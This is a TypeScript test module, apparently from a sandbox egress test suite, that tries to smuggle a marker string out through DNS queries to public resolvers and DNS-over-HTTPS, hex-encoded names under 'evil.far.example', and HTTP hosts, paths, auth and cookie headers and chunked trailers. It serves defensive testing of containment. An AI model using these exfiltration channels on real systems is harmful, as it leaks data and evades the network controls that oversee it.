/** Ways to carry a text out: names that are asked for, and everything of a request that is not what it asks for. */
import { connect } from 'node:net'
import { Random } from '../../policy/differential/random.ts'
import { type CellSide, dnsQuestion, request } from '../cell-side.ts'
import type { AttackKind } from '../kind.ts'

/** The text that is to stay in the cell. */
const KEPT = 'kept-3f9a17c2'
const HEX = Buffer.from(KEPT).toString('hex')

const TYPES = {
  A: 1,
  NS: 2,
  CNAME: 5,
  NULL: 10,
  MX: 15,
  TXT: 16,
  AAAA: 28,
  SRV: 33,
  HTTPS: 65,
  ANY: 255,
  AXFR: 252,
  KEY: 25,
} as const
const RESOLVERS = ['10.9.9.9', '8.8.8.8', '1.1.1.1', '127.0.0.53', '198.18.0.1', '203.0.114.10']

const datagrams: AttackKind = {
  name: 'DNS over UDP: long names, many names, every type, any resolver, no question at all',
  stops: 'the resolver of a cell asks nobody (NM1)',
  run: async (cell) => {
    const random = new Random(21)
    const label = () => Array.from({ length: 50 }, () => random.pick([...'abcdef0123456789'])).join('')
    const questions = [
      ...Object.values(TYPES).flatMap((type) =>
        RESOLVERS.map((resolver) => ({ resolver, message: dnsQuestion(`${HEX}.evil.far.example`, type) })),
      ),
      ...Array.from({ length: 100 }, (_, i) => ({
        resolver: random.pick(RESOLVERS),
        message: dnsQuestion(`${HEX}.${label()}.${label()}.${i}.evil.far.example`, random.pick(Object.values(TYPES))),
      })),
      ...[
        'x'.repeat(64),
        'a b',
        '\0',
        'ü',
        '',
        'a..b',
        '127.0.0.1',
        '0x7f.1',
        '1.0.0.127.in-addr.arpa',
        'x.onion',
        'localhost',
        'x.localhost',
      ].map((name) => ({ resolver: '10.9.9.9', message: dnsQuestion(name, 1) })),
      ...[Buffer.alloc(0), Buffer.alloc(11), Buffer.alloc(12), Buffer.alloc(4_096, 0xff), Buffer.from(KEPT)].map(
        (message) => ({ resolver: '10.9.9.9', message }),
      ),
    ]
    const heard = await cell.each(questions, ({ resolver, message }) => cell.ask(resolver, message))
    const answered = heard.filter((each) => each !== undefined).length
    return {
      cases: questions.length,
      kept: HEX,
      reached: answered > 0 ? [] : ['control: none was answered'],
    }
  },
}

const streams: AttackKind = {
  name: 'DNS over TCP, TLS and HTTPS',
  stops: 'the same resolver; ports without a listener refuse; a resolver over HTTPS is an origin that nobody declared',
  isQuick: true,
  run: async (cell) => {
    const names = Array.from({ length: 30 }, (_, i) => `${HEX}${i}.evil.far.example`)
    const framed = (name: string, type: number) => {
      const message = dnsQuestion(name, type)
      return Buffer.concat([Buffer.from([message.length >> 8, message.length & 255]), message])
    }
    await cell.each(names, (name, i) => asked(RESOLVERS[i % RESOLVERS.length] ?? '', 53, framed(name, i % 2 ? 16 : 1)))
    await cell.each(names, (name, i) => asked(RESOLVERS[i % RESOLVERS.length] ?? '', 853, framed(name, 1)))
    const overHttps = ['1.1.1.1', '8.8.8.8', 'dns.google', 'cloudflare-dns.com', 'dns.quad9.net']
    const heard = await cell.each(overHttps, async (host) => {
      const address = /^\d/.test(host) ? host : await cell.addressOf(host)
      const query = dnsQuestion(`${HEX}.evil.far.example`, 1).toString('base64url')
      return cell.send(
        { address, port: 443, tls: /^\d/.test(host) ? {} : { servername: host } },
        request(`GET /dns-query?dns=${query} HTTP/1.1`, [
          `host: ${host}`,
          'accept: application/dns-message',
          'connection: close',
        ]),
        'answer',
      )
    })
    return {
      cases: 2 * names.length + overHttps.length,
      kept: HEX,
      reached: heard.flatMap((text, i) =>
        /^HTTP\/1\.1 403/.test(text) ? [] : [`${overHttps[i]}: ${text.slice(0, 80)}`],
      ),
    }
  },
}

/** Sends to a port, and resolves when the connection is over or something came. */
function asked(host: string, port: number, bytes: Uint8Array): Promise<void> {
  return new Promise((resolve) => {
    const socket = connect({ host, port })
    const end = () => {
      socket.destroy()
      resolve()
    }
    socket.on('error', end).once('close', end).once('data', end)
    socket.write(bytes)
  })
}

async function asking(cell: CellSide, name: string, path: string, headers: readonly string[]): Promise<string> {
  const to = await cell.at(name)
  return cell.send(to, request(`GET ${path} HTTP/1.1`, [`host: ${name}`, 'connection: close', ...headers]), 'answer')
}

/** Headers that are not the program’s business, or that say who it is. */
const TAKEN = [
  ...[
    'authorization',
    'Authorization',
    'AUTHORIZATION',
    'authorization_',
    'cookie',
    'Cookie',
    'cookie2',
    'proxy-authorization',
  ],
  ...[
    'x-api-key',
    'api-key',
    'x_api_key',
    'x-auth-token',
    'private-token',
    'x-goog-api-key',
    'x-csrf-token',
    'via',
    'forwarded',
  ],
  ...[
    'x-forwarded-for',
    'x-forwarded-host',
    'x-forwarded-proto',
    'x-original-url',
    'x-rewrite-url',
    'x-http-method-override',
  ],
  ...[
    'x-method-override',
    'x-host',
    'te',
    'trailer',
    'keep-alive',
    'proxy-connection',
    'connection',
    'expect',
    'http2-settings',
  ],
]

const requests: AttackKind = {
  name: 'texts in hosts, paths, queries, credentials, cookies, methods and versions',
  stops: 'undeclared places, paths and queries are refused; credentials, cookies and headers of one hop stay here',
  isQuick: true,
  run: async (cell) => {
    const api = 'api.far.example'
    const hosts = [
      ...[`${HEX}.evil.far.example`, `${HEX}.api.far.example`, `${KEPT}.example`, `${HEX}.com`],
      ...Array.from({ length: 24 }, (_, i) => `${HEX}-${i}.far.example`),
    ]
    const paths = [
      ...[`/${KEPT}`, `/ok/${KEPT}`, `/ok?${KEPT}`, `/ok?x=${KEPT}`, `/ok?q=1&x=${KEPT}`, `/ok#${KEPT}`, `/ok;${KEPT}`],
      ...[`/ok?q=1&q=${KEPT}`, `/answer/1/${KEPT}`, `/OK/${KEPT}`, `/ok?${KEPT}=`, `/ok?Q=${KEPT}`, `/ok?q[]=${KEPT}`],
    ]
    const heard = [
      ...(await cell.each(hosts, (host) => asking(cell, host, '/ok', []))),
      ...(await cell.each(paths, (path) => asking(cell, api, path, []))),
      ...(await cell.each([`${KEPT}`, 'PROPFIND', 'REPORT', 'LOCK', 'PURGE', 'MERGE'], async (method) =>
        cell.send(
          await cell.at(api),
          request(`${method} /ok HTTP/1.1`, [`host: ${api}`, 'connection: close', `x: ${KEPT}`]),
        ),
      )),
    ]
    const taken = await cell.each(TAKEN, (name) => asking(cell, api, '/ok', [`${name}: ${KEPT}`]))
    const trailers = await cell.send(
      await cell.at(api),
      request(
        'POST /ok HTTP/1.1',
        [`host: ${api}`, 'content-type: application/octet-stream', 'transfer-encoding: chunked'],
        `1;x=${KEPT}\r\na\r\n0\r\nx: ${KEPT}\r\n\r\n`,
      ),
      'answer',
    )
    const through = heard.filter((text) => /^HTTP\/1\.1 2/m.test(text)).length
    return {
      cases: heard.length + taken.length + 1,
      kept: KEPT,
      reached: [
        ...(through > 0 ? [`${through} were let through`] : []),
        ...(taken.some((text) => text.startsWith('HTTP/1.1 200'))
          ? []
          : ['control: none with a header that is taken out went on']),
        ...(trailers === '' ? ['control: a body with trailers had no answer'] : []),
      ],
    }
  },
}

export const CHANNELS: readonly AttackKind[] = [datagrams, streams, requests]
